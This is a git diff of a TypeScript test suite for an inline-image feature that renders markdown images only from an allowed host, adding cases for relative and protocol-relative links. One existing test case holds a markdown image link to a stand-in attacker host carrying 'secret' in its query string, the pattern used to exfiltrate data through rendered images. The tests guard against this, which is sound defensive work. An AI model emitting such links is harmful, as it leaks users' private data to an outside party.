@@ -4,7 +4,10 @@ import { createInlineImages, type InlinePiece } from "../../../src/gateway/image
 import { pixelUri } from "./harness.ts";
 
 function readAll(parts: readonly string[], maxDataChars = 100_000): InlinePiece[] {
-  const inline = createInlineImages(maxDataChars, (url) => new URL(url).host === "a.example");
+  const inline = createInlineImages(
+    maxDataChars,
+    (url) => new URL(url, "https://a.example").host === "a.example",
+  );
   return joinText([...parts.flatMap((part) => inline.push(part)), ...inline.end()]);
 }
 
@@ -93,6 +96,9 @@ describe("inline images", () => {
       [{ kind: "text", text: "![x](https://attacker.example/?d=secret)" }],
     ],
     ["![x](relative.png)", [{ kind: "text", text: "![x](relative.png)" }]],
+    ["![x](/files/b.png)", [{ kind: "image", url: "/files/b.png", source: "![x](/files/b.png)" }]],
+    ["`![x](/files/b.png)`", [{ kind: "text", text: "`![x](/files/b.png)`" }]],
+    ["![x](//b.example/c.png)", [{ kind: "text", text: "![x](//b.example/c.png)" }]],
     ["![x]\n(https://a.example/x.png)", [{ kind: "text", text: "![x]\n(https://a.example/x.png)" }]],
     ["![x](https://a.example/x.png", [{ kind: "text", text: "![x](https://a.example/x.png" }]],
     [
